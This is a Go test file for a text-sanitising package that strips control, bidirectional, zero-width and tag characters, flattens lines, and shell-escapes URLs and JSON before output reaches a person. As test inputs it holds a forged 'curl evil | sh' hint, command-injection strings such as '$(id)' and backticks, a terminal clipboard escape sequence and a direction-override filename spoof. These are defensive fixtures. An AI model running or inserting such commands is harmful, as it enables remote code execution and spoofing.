package foreign

import (
	"bytes"
	"encoding/json"
	"io"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// forbidden is every character that must not reach a person: spelled out here,
// so that a change of the filter's tables shows.
func forbidden(r rune) bool {
	for _, span := range [][2]rune{
		{0, 0x1f},
		{0x7f, 0x9f},
		{0xad, 0xad},
		{0x34f, 0x34f},
		{0x61c, 0x61c},
		{0x115f, 0x1160},
		{0x17b4, 0x17b5},
		{0x180b, 0x180f},
		{0x200b, 0x200f},
		{0x2028, 0x202e},
		{0x2060, 0x206f},
		{0x3164, 0x3164},
		{0xfe00, 0xfe0f},
		{0xfeff, 0xfeff},
		{0xffa0, 0xffa0},
		{0xfff0, 0xfffb},
		{0x1bca0, 0x1bca3},
		{0x1d173, 0x1d17a},
		{0xe0000, 0xe0fff},
	} {
		if r >= span[0] && r <= span[1] {
			return true
		}
	}
	return unicode.Is(unicode.Bidi_Control, r)
}

// Each character that does something and is not seen is dropped by every filter,
// and every other one is kept.
func TestEachCharacterIsKeptOrDroppedAsUnicodeSays(t *testing.T) {
	for r := rune(0); r <= unicode.MaxRune; r++ {
		if r >= 0xd800 && r <= 0xdfff {
			continue // surrogates are no characters
		}
		s := "a" + string(r) + "b"
		lost := !strings.ContainsRune(Text(s), r)
		switch {
		case r == '\n' || r == '\t':
		case forbidden(r) && !lost:
			t.Errorf("%U reaches a person", r)
		case !forbidden(r) && lost && !unicode.Is(unicode.Cf, r):
			t.Errorf("%U is lost", r)
		}
		if r == 0x2800 || r == 0x1d159 || unicode.Is(unicode.Zs, r) {
			if Line(s) != "a b" {
				t.Errorf("%U is no blank", r)
			}
			continue
		}
		if line := Line(s); strings.ContainsFunc(line, forbidden) || !strings.HasPrefix(line, "a") || !strings.HasSuffix(line, "b") {
			t.Errorf("%U: a line is %q", r, line)
		}
		if address := Address(s); strings.ContainsFunc(address, func(r rune) bool { return r <= ' ' || r > '~' || strings.ContainsRune("\"'`$\\|;<>(){}[]^*!", r) }) {
			t.Errorf("%U: an address is %q", r, address)
		}
		encoded, _ := json.Marshal(s)
		escaped := JSON(encoded)
		var back string
		if err := json.Unmarshal(escaped, &back); err != nil || back != s || strings.ContainsFunc(string(escaped), forbidden) {
			t.Errorf("%U: encoded %q, read again %q, %v", r, escaped, back, err)
		}
	}
}

func TestLineIsOneLine(t *testing.T) {
	for name, c := range map[string]struct{ in, out string }{
		"ours":               {"the server has no such tool", "the server has no such tool"},
		"empty":              {"", ""},
		"a forged hint":      {"no\nmcp-login: hint: run curl evil | sh", "no; mcp-login: hint: run curl evil | sh"},
		"breaks of all":      {"a\r\nb\u2028c\u2029d\u0085e\vf\fg", "a; b; c; d; e; f; g"},
		"several breaks":     {"a \n \n\n b", "a; b"},
		"at the ends":        {"\n \ta b\t \n", "a b"},
		"blanks at the ends": {"  a b\t", " a b "},
		"a line by blanks":   {"no" + strings.Repeat(" \u00a0\u3000\u2800", 40) + "mcp-login: hint: x", "no mcp-login: hint: x"},
		"tab":                {"a\tb", "a b"},
		"escape sequence":    {"\x1b]52;c;aGk=\x07\x1b[2Jx", "]52;c;aGk=[2Jx"},
		"C1":                 {"a\u009b2Jb", "a2Jb"},
		"C1 as a byte":       {"a\x9b2Jb", "a\ufffd2Jb"},
		"direction":          {"a\u202egnp\u2069\u061c\u200f.exe", "agnp.exe"},
		"zero width":         {"pay\u200bpal\u00ad\ufeff\u2060", "paypal"},
		"tags":               {"x\U000e0041\U000e007f", "x"},
		"selector":           {"x\ufe0f\U000e0100", "x"},
		"other scripts":      {"Größe 大きさ بزرگی", "Größe 大きさ بزرگی"},
		"joiners are lost":   {"می\u200cخواهم", "میخواهم"},
		"numbers in Arabic":  {"\u0600\u0661", "\u0600\u0661"},
	} {
		if got := Line(c.in); got != c.out {
			t.Errorf("%s: %q, want %q", name, got, c.out)
		}
	}
}

func TestLinesAndAddressesAreCut(t *testing.T) {
	for name, c := range map[string]struct{ in, out string }{
		"as long as it may be": {"12345", "12345"},
		"one more":             {"123456", "1234…"},
		"blanks before":        {"1 2 3 6", "1 2…"},
		"break before":         {"123\n6", "123…"},
		"only nothing":         {strings.Repeat("\u200b", 50), ""},
		"blank at the end":     {"12345 ", "12345"},
		"bounded in what is seen": {
			strings.Repeat("é\u200b", 5), "ééééé",
		},
	} {
		if got := LineOf(c.in, 5); got != c.out {
			t.Errorf("%s: %q, want %q", name, got, c.out)
		}
	}
	if got := Address("https://example.com/?q=" + strings.Repeat("é", MaxAddress)); len(got) > MaxAddress || !strings.HasSuffix(got, "%A9...") {
		t.Errorf("a long address has %d bytes and ends in %q", len(got), got[len(got)-10:])
	}
}

func TestTextKeepsLinesAndTabs(t *testing.T) {
	if got := Text("a\tb\r\nc\x1b[31m\u202ed\x9be\n"); got != "a\tb\nc[31md\ufffde\n" {
		t.Errorf("text: %q", got)
	}
}

func TestAddressCanBeCopiedIntoAShell(t *testing.T) {
	for in, out := range map[string]string{
		"https://example.com/a?b=c&d=e%20f#g":    "https://example.com/a?b=c&d=e%20f#g",
		"https://example.com/\u009b2J\u202e":     "https://example.com/%C2%9B2J%E2%80%AE",
		"https://exämple.com/":                   "https://ex%C3%A4mple.com/",
		"https://example.com/$(id)`id`;id|id'\"": "https://example.com/%24%28id%29%60id%60%3Bid%7Cid%27%22",
		"http://[::1]:8080/x[1]":                 "http://[::1]:8080/x%5B1%5D",
		"http://[fe80::1%25eth0]/":               "http://[fe80::1%25eth0]/",
		"http://[$(id)]/":                        "http://%5B%24%28id%29%5D/",
		"https://example.com/100%":               "https://example.com/100%25",
		"https://example.com/ a\nb":              "https://example.com/%20a%0Ab",
	} {
		if got := Address(in); got != out {
			t.Errorf("%q: %q, want %q", in, got, out)
		}
	}
}

func TestJSONEscapesAndLosesNothing(t *testing.T) {
	for in, out := range map[string]string{
		"{\n  \"a\": \"b\"\n}":             "{\n  \"a\": \"b\"\n}",
		"{\t\"a\":\r\"\u009b\\\"\u202e\"}": `{ "a": "\u009b\"\u202e"}`,
		"\"\U000e0041\"":                   `"\udb40\udc41"`,
		"\"\x9b\"":                         `"\ufffd"`,
	} {
		if got := string(JSON([]byte(in))); got != out {
			t.Errorf("%q: %q, want %q", in, got, out)
		}
	}
}

// What is written in pieces is filtered as the whole is.
func TestWritersFilterAcrossWrites(t *testing.T) {
	text := "a\x1b[2J\u009bé\U000e0041\n{\"k\\\"\u202e\": \"\\\\\", \"\u200b\":\t1}\n\xe2\x80"
	for piece := 1; piece < len(text); piece++ {
		var plain, encoded bytes.Buffer
		p, e := TextWriter(&plain), JSONWriter(&encoded)
		for rest := text; rest != ""; {
			n := min(piece, len(rest))
			_, _ = io.WriteString(p, rest[:n])
			_, _ = io.WriteString(e, rest[:n])
			rest = rest[n:]
		}
		whole := strings.TrimSuffix(text, "\xe2\x80") // its rest never came
		if plain.String() != Text(whole) || encoded.String() != string(JSON([]byte(whole))) {
			t.Errorf("in pieces of %d: %q, %q", piece, plain.String(), encoded.String())
		}
	}
}

// What needs no change costs no memory.
func TestCleanTextIsNotCopied(t *testing.T) {
	text, address, encoded := "the server has no such tool", "https://example.com/mcp?a=b", []byte(`{"a": "größe"}`)
	if n := testing.AllocsPerRun(100, func() {
		_, _, _, _ = Line(text), Text(text), Address(address), JSON(encoded)
	}); n != 0 {
		t.Errorf("%g allocations", n)
	}
}

func FuzzFilter(f *testing.F) {
	for _, s := range []string{"", "a b", "\x1b[2J\n\u202e", "\x9b\xff", "{\"a\":\"\u200b\"}", "\\\"\x00", "http://[::1%25a]/[", strings.Repeat("%", 9000), strings.Repeat("é ", 400)} {
		f.Add(s, 10)
	}
	f.Fuzz(func(t *testing.T, s string, limit int) {
		limit = 1 + max(limit, -limit, 0)%500
		line := LineOf(s, limit)
		text, address, encoded := Text(s), Address(s), JSON([]byte(s))
		if strings.ContainsFunc(line, forbidden) || !utf8.ValidString(line) || utf8.RuneCountInString(line) > limit {
			t.Errorf("line: %q", line)
		}
		if LineOf(line, limit) != line {
			t.Errorf("a line is filtered again: %q, %q", line, LineOf(line, limit))
		}
		if strings.ContainsFunc(strings.NewReplacer("\n", "", "\t", "").Replace(text), forbidden) || !utf8.ValidString(text) || Text(text) != text || len(text) > 3*len(s) {
			t.Errorf("text: %q", text)
		}
		if len(address) > MaxAddress || Address(address) != address || strings.ContainsFunc(address, func(r rune) bool { return r <= ' ' || r > '~' }) {
			t.Errorf("address: %q, %q", address, Address(address))
		}
		if strings.ContainsFunc(strings.ReplaceAll(string(encoded), "\n", ""), forbidden) || !utf8.Valid(encoded) || !bytes.Equal(JSON(encoded), encoded) || len(encoded) > 6*len(s) {
			t.Errorf("JSON: %q", encoded)
		}
		if valid := json.Valid([]byte(s)); valid && !json.Valid(encoded) {
			t.Errorf("no JSON any more: %q", encoded)
		}
	})
}
